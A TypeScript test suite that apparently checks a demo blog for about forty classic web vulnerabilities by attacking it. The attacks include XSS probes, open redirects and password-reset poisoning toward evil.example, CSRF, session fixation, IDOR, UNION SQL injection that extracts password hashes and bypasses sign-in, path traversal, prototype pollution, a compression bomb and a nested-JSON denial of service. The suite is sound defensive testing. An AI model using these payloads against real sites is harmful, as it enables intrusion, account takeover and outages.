import { gzipSync } from 'node:zlib'
import { openBrowser, register } from './browser.ts'
import { ada, grace } from './shared/seed.ts'
import { type Answer, type Ask, ask, listen } from './wire.ts'

/** One of the classic mistakes, with the attack that makes use of it. */
export interface Mistake {
  readonly title: string
  /** Answers whether the attack worked. */
  attack(victim: Victim): Promise<boolean>
}

/** A running blog, with Ada signed in to it. */
export interface Victim {
  readonly origin: string
  /** Ada's cookies. */
  readonly cookie: string
  send(request: Ask): Promise<Answer>
  /** Sends what a form on the blog's own pages would. */
  form(path: string, fields: Record<string, string>): Promise<Answer>
  /** The newest post of Ada's, written for this attack. */
  newPost(): Promise<string>
}

export async function toVictim(origin: string): Promise<Victim> {
  const browser = openBrowser(origin)
  await browser.submit('/sign-in', '/sign-in', ada)
  const cookie = browser.headers()['Cookie'] ?? ''
  const own = { Cookie: cookie, Origin: origin, 'Sec-Fetch-Site': 'same-origin' }
  const send = (request: Ask) => ask(origin, request)
  return {
    origin,
    cookie,
    send,
    form: (path, fields) => {
      // A sign-in with her cookies would end the session that they belong to.
      const { Cookie, ...rest } = own
      const headers = path === '/sign-in' ? { ...rest, ...isForm } : { Cookie, ...rest, ...isForm }
      return send({ method: 'POST', path, headers, body: new URLSearchParams(fields).toString() })
    },
    newPost: async () => {
      const fields = { title: 'To be attacked', body: 'Whatever.' }
      const { text } = await send({
        method: 'POST',
        path: '/api/posts',
        headers: { ...own, ...isJson },
        body: JSON.stringify(fields),
      })
      return `/posts/${(JSON.parse(text) as { id: number }).id}`
    },
  }
}

export const mistakes: readonly Mistake[] = [
  {
    title: 'a search shows markup from the address (reflected XSS)',
    attack: async ({ send }) => (await send({ path: '/search?q=%3Cx7q%3E' })).text.includes('<x7q>'),
  },
  {
    title: 'an error page shows markup from the address (reflected XSS)',
    attack: async ({ send }) => (await send({ path: '/%3Cx7q%3E' })).text.includes('<x7q>'),
  },
  {
    title: 'comments and posts keep their markup (stored XSS)',
    attack: async ({ send, form, newPost }) => {
      const path = await newPost()
      await form(`${path}/comments`, { body: 'Hello <x7q>' })
      return (await send({ path })).text.includes('<x7q>')
    },
  },
  {
    title: 'a website may be a script (javascript: link)',
    attack: async ({ send, form, newPost }) => {
      await form('/profile', { displayName: 'Ada', website: 'javascript:alert(1)', bio: '', theme: 'device' })
      return (await send({ path: await newPost() })).text.includes('href="javascript:')
    },
  },
  {
    title: 'signing in leads to any site (open redirect)',
    attack: async ({ origin, form }) => {
      const { headers } = await form('/sign-in', { ...ada, next: '//evil.example/' })
      return leaves(origin, headers.location)
    },
  },
  {
    title: 'the sign-in page sends people who are signed in to any site (open redirect)',
    attack: async ({ origin, cookie, send }) => {
      const { headers } = await send({ path: '/sign-in?next=https://evil.example/', headers: { Cookie: cookie } })
      return leaves(origin, headers.location)
    },
  },
  {
    title: 'the link out leads anywhere without a word (open redirect)',
    attack: async ({ origin, send }) =>
      leaves(origin, (await send({ path: '/go?to=https://evil.example/' })).headers.location),
  },
  {
    title: 'another site can send a form (CSRF)',
    attack: async ({ cookie, send, newPost }) => {
      const path = await newPost()
      const headers = { ...fromElsewhere, ...isForm, Cookie: cookie }
      await send({ method: 'POST', path: `${path}/comments`, headers, body: 'body=Forged' })
      return (await send({ path })).text.includes('Forged')
    },
  },
  {
    title: 'another site can post JSON as plain text (CSRF)',
    attack: async ({ cookie, send }) => {
      const headers = { ...fromElsewhere, Cookie: cookie, 'Content-Type': 'text/plain' }
      const body = JSON.stringify({ title: 'Forged', body: 'By another site.' })
      return (await send({ method: 'POST', path: '/api/posts', headers, body })).status === 201
    },
  },
  {
    title: 'an image on another site deletes a post (state changed by GET)',
    attack: async ({ cookie, send, newPost }) => {
      const path = await newPost()
      await send({ path: `${path}/delete`, headers: { ...fromElsewhere, Cookie: cookie } })
      return (await send({ path })).status === 404
    },
  },
  {
    title: 'a header turns one method into another',
    attack: async ({ cookie, send, newPost }) => {
      const path = await newPost()
      await send({
        method: 'POST',
        path: `/api${path}`,
        headers: { Cookie: cookie, 'X-HTTP-Method-Override': 'DELETE' },
      })
      return (await send({ path })).status === 404
    },
  },
  {
    title: 'TRACE gives the cookies back',
    attack: async ({ cookie, send }) => {
      return (await send({ method: 'TRACE', path: '/', headers: { Cookie: cookie } })).text.includes(cookie)
    },
  },
  {
    title: 'any site reads the API with the cookies of its visitors (CORS)',
    attack: async ({ cookie, send }) => {
      const { headers } = await send({ path: '/api/me', headers: { ...fromElsewhere, Cookie: cookie } })
      return headers['access-control-allow-origin'] === fromElsewhere.Origin
    },
  },
  {
    title: 'any site opens the WebSocket as its visitor',
    attack: async ({ origin, cookie }) => {
      const live = await listen(origin, { Origin: fromElsewhere.Origin, Cookie: cookie })
      live.close()
      return live.head.startsWith('HTTP/1.1 101 ')
    },
  },
  {
    title: 'a cookie holds the number of the person, and nobody looks at its signature',
    attack: async ({ send }) =>
      (await send({ path: '/api/me', headers: { Cookie: 'user=2' } })).text.includes('grace@'),
  },
  {
    title: 'a session id that somebody thought of is taken over (fixation)',
    attack: async ({ origin, send }) => {
      const headers = { ...isForm, Origin: origin, 'Sec-Fetch-Site': 'same-origin', Cookie: 'connect.sid=thought-of' }
      await send({ method: 'POST', path: '/sign-in', headers, body: `${new URLSearchParams(grace)}` })
      const { text } = await send({ path: '/api/me', headers: { Cookie: 'connect.sid=thought-of' } })
      return text.includes('grace@')
    },
  },
  {
    title: 'session ids follow one another (guessable)',
    attack: async ({ send }) => {
      const ids = await Promise.all([1, 2].map(async () => `${(await send({ path: '/' })).headers['set-cookie']}`))
      const [a, b] = ids.map((line) => /connect\.sid=([^;]*)/.exec(line)?.[1])
      return a !== undefined && b !== undefined && a.slice(0, 6) === b.slice(0, 6)
    },
  },
  {
    title: 'signing out everywhere ends nothing elsewhere',
    attack: async ({ origin, send }) => {
      const [here, there] = [openBrowser(origin), openBrowser(origin)]
      for (const browser of [here, there]) await browser.submit('/sign-in', '/sign-in', grace)
      const { Cookie = '' } = there.headers()
      await here.submit('/sessions', '/sessions/sign-out')
      return (await send({ path: '/api/me', headers: { Cookie } })).status === 200
    },
  },
  {
    title: 'the page for admins opens for everybody who knows its address (missing authorisation)',
    attack: async ({ cookie, send }) => {
      const answers = await Promise.all([{}, { Cookie: cookie }].map((headers) => send({ path: '/admin', headers })))
      return answers.some(({ status, text }) => status === 200 && text.includes('grace@example.org'))
    },
  },
  {
    title: 'anybody makes an admin of themselves',
    attack: async ({ cookie, send, form }) => {
      await form('/admin/people/1/role', { role: 'admin' })
      const isAdmin = (await send({ path: '/api/me', headers: { Cookie: cookie } })).text.includes('"admin"')
      await form('/admin/people/1/role', { role: 'author' })
      return isAdmin
    },
  },
  {
    title: 'a field more in the registration makes an admin (mass assignment)',
    attack: async ({ origin }) => {
      const browser = openBrowser(origin)
      const fields = { name: 'mallory', email: 'mallory@example.org', password: 'a good long password', role: 'admin' }
      await register(browser, fields)
      return (await browser.call('GET', '/api/me')).json()['role'] === 'admin'
    },
  },
  {
    title: "somebody else's post is changed by its number (IDOR)",
    attack: async ({ origin, send, newPost }) => {
      const path = await newPost()
      const browser = openBrowser(origin)
      await browser.submit('/sign-in', '/sign-in', grace)
      await browser.post(path, { title: 'Mine now', body: 'Taken.' })
      return (await send({ path })).text.includes('Mine now')
    },
  },
  {
    title: "somebody else's comment is deleted by its number (IDOR)",
    attack: async ({ origin, send, form, newPost }) => {
      const path = await newPost()
      await form(`${path}/comments`, { body: 'To stay.' })
      const browser = openBrowser(origin)
      await register(browser, { name: 'trudy', email: 'trudy@example.org', password: 'a good long password' })
      for (let id = 1; id < 40; id++) await browser.post(`/comments/${id}/delete`, {})
      return !(await send({ path })).text.includes('To stay.')
    },
  },
  {
    title: "somebody else's data is given out for a number in the link (IDOR)",
    attack: async ({ cookie, send }) => {
      const { text } = await send({ path: '/profile/data?person=2', headers: { Cookie: cookie } })
      return text.includes('grace@example.org')
    },
  },
  {
    title: 'a file for authors opens when its path is written differently',
    attack: async ({ send }) => {
      const paths = ['/files/.%2fhouse-rules.txt', '/files/%2e/house-rules.txt', '/files/x%2f..%2fhouse-rules.txt']
      const answers = await Promise.all(paths.map((path) => send({ path })))
      return answers.some(({ text }) => text.includes('House rules'))
    },
  },
  {
    title: 'the end of a long password does not count',
    attack: async ({ origin }) => {
      const long = `${'a good long password '.repeat(4)}and its end`
      const fields = { name: 'longinus', email: 'longinus@example.org', password: long }
      await register(openBrowser(origin), fields)
      const { status } = await openBrowser(origin).post('/sign-in', {
        email: fields.email,
        password: long.slice(0, 72),
      })
      return status === 303
    },
  },
  {
    title: 'ten wrong passwords lock somebody out for ever',
    attack: async ({ origin }) => {
      const fields = { name: 'locke', email: 'locke@example.org', password: 'a good long password' }
      await register(openBrowser(origin), fields)
      const own = openBrowser(origin, '203.0.113.77')
      await own.call('POST', '/api/sign-in', fields)
      for (let i = 0; i < 12; i++) await openBrowser(origin).call('POST', '/api/sign-in', { ...fields, password: 'x' })
      return (await own.call('POST', '/api/sign-in', fields)).status === 403
    },
  },
  {
    title: 'a new password needs no old one, and leaves whoever stole a session in',
    attack: async ({ origin }) => {
      const fields = { name: 'nina', email: 'nina@example.org', password: 'a good long password' }
      const own = openBrowser(origin)
      await register(own, fields)
      const stolen = openBrowser(origin)
      await stolen.submit('/sign-in', '/sign-in', fields)
      const { status } = await stolen.post('/security/password', { current: '', password: 'a stolen long password' })
      return status === 303 && (await own.call('GET', '/api/me')).status === 200
    },
  },
  {
    title: 'an address that nobody confirmed opens an account',
    attack: async ({ origin }) => {
      const browser = openBrowser(origin)
      const fields = { name: 'victor', email: 'somebody-else@example.org', password: 'a good long password' }
      await browser.submit('/register', '/register', fields)
      return (await browser.call('GET', '/api/me')).status === 200
    },
  },
  {
    title: 'scripts can read the cookie, and other sites can send it',
    attack: async ({ form }) => {
      const cookie = `${(await form('/sign-in', ada)).headers['set-cookie']}`
      return !/; ?HttpOnly/i.test(cookie) && !/; ?SameSite/i.test(cookie)
    },
  },
  {
    title: 'a copy of the cookie is good after signing out',
    attack: async ({ origin, send }) => {
      const browser = openBrowser(origin)
      await browser.submit('/sign-in', '/sign-in', grace)
      const { Cookie = '' } = browser.headers()
      await browser.submit('/', '/sign-out')
      return (await send({ path: '/api/me', headers: { Cookie } })).status === 200
    },
  },
  {
    title: 'whoever asks for a new password says which host the link leads to',
    attack: async ({ send }) => {
      const headers = { ...isForm, 'X-Forwarded-Host': 'evil.example' }
      await send({ method: 'POST', path: '/forgot', headers, body: 'email=ada@example.org' })
      return (await send({ path: '/outbox' })).text.includes('http://evil.example/reset')
    },
  },
  {
    title: 'the sign-in tells whether somebody has an account',
    attack: async ({ form }) => {
      const [known, unknown] = await Promise.all([
        form('/sign-in', { email: 'ada@example.org' }),
        form('/sign-in', { email: 'nil@example.org' }),
      ])
      const [a, b] = [known.text, unknown.text]
      return a.replaceAll('ada', '') !== b.replaceAll('nil', '')
    },
  },
  {
    title: 'a search is part of the SQL (injection)',
    attack: async ({ send }) => {
      const q = `zzz' UNION SELECT person, 1, email, password, 1, role, 1, 1, 1 FROM logins --`
      return (await send({ path: `/search?q=${encodeURIComponent(q)}` })).text.includes('grace@example.org')
    },
  },
  {
    title: 'an address signs in without a password (SQL injection)',
    attack: async ({ form }) => {
      const sha1 = '5baa61e4c9b93f3f0682250b6cf8331b7ee68fd8'
      const email = `' UNION SELECT '1', '', '', '', '', '', '', 0, '', '', '${sha1}' --`
      return (await form('/sign-in', { email, password: 'password', next: '/' })).status === 303
    },
  },
  {
    title: 'static files are read from outside of their folder (path traversal)',
    attack: async ({ send }) => {
      const answers = await Promise.all(
        ['..%2f', '..%252f', '../'].map((up) => send({ path: `/assets/${up}canary.txt` })),
      )
      return answers.some(({ text }) => text.startsWith('bulwark-canary'))
    },
  },
  {
    title: 'a link to a file reads others (path traversal)',
    attack: async ({ cookie, send }) => {
      const { text } = await send({ path: '/download?file=../canary.txt', headers: { Cookie: cookie } })
      return text.startsWith('bulwark-canary')
    },
  },
  {
    title: 'settings reach every object of the process (prototype pollution)',
    attack: async ({ origin, cookie, send }) => {
      const headers = { ...isJson, Origin: origin, Cookie: cookie }
      await send({ method: 'POST', path: '/api/settings', headers, body: '{"__proto__": {"x7q": true}}' })
      const isPolluted = 'x7q' in {}
      delete (Object.prototype as { x7q?: true }).x7q
      return isPolluted
    },
  },
  {
    title: 'a form of any size is read',
    attack: async ({ send }) => {
      const body = `email=ada@example.org&password=x&pad=${'a'.repeat(3_000_000)}`
      return (await send({ method: 'POST', path: '/sign-in', headers: isForm, body })).status === 401
    },
  },
  {
    title: 'a small body may unpack to any size (compression bomb)',
    attack: async ({ send }) => {
      const body = gzipSync(`email=ada@example.org&password=x&pad=${'a'.repeat(10_000_000)}`)
      const headers = { ...isForm, 'Content-Encoding': 'gzip' }
      return (await send({ method: 'POST', path: '/sign-in', headers, body })).status === 401
    },
  },
  {
    title: 'errors show the stack',
    attack: async ({ send }) => {
      const answers = await Promise.all(['/posts/x', '/search?q=%27', '/assets/nothing'].map((path) => send({ path })))
      return answers.some(({ text }) => /at .*\.[jt]s:\d+/.test(text))
    },
  },
  {
    title: 'health tells the version of Node',
    attack: async ({ send }) => (await send({ path: '/health' })).text.includes(process.version),
  },
  {
    title: 'any page signs its visitors out (state changed by GET)',
    attack: async ({ cookie, send }) => {
      return (await send({ path: '/sign-out', headers: { ...fromElsewhere, Cookie: cookie } })).status === 303
    },
  },
  {
    title: 'one deeply nested body breaks a page for everybody',
    attack: async ({ origin, cookie, send }) => {
      const body = `{"mastodon": ${'['.repeat(45_000)}${']'.repeat(45_000)}}`
      await send({
        method: 'POST',
        path: '/api/settings',
        headers: { ...isJson, Origin: origin, Cookie: cookie },
        body,
      })
      return (await send({ path: '/api/people' })).status === 500
    },
  },
]

const isForm = { 'Content-Type': 'application/x-www-form-urlencoded' }
const isJson = { 'Content-Type': 'application/json' }
const fromElsewhere = { Origin: 'https://evil.example', 'Sec-Fetch-Site': 'cross-site' }

/** Where a browser would end up, not what the text looks like. */
function leaves(origin: string, location: string | undefined): boolean {
  return location !== undefined && new URL(location, origin).origin !== origin
}
